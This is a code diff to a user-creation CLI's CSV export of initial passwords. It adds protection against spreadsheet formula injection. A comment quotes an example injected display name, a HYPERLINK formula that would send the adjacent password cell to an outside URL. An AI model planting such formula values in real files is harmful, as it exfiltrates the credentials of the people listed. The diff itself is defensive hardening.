@@ -143,7 +143,13 @@ export const register: RegisterCommand = (program, io) => {
           io.out(`检查通过：可创建 ${rows.length} 个用户 / ${rows.length} users would be created\n`);
           return;
         }
-        const csv = (v: string) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
+        // A cell starting with = + - @ (or a tab or CR) is a formula once the file is opened in a
+        // spreadsheet: a display name =HYPERLINK("http://…?"&E2) would send the password beside it away.
+        // A leading ' keeps it text; quotes, commas and line breaks are quoted.
+        const csv = (text: string) => {
+          const v = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
+          return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
+        };
         const lines = [
           '用户名,姓名,角色,单位,初始密码',
           ...result.created.map((u) => [u.username, u.displayName, ROLE_LABEL[u.role], u.unitName ?? '全部单位', u.password].map(csv).join(',')),
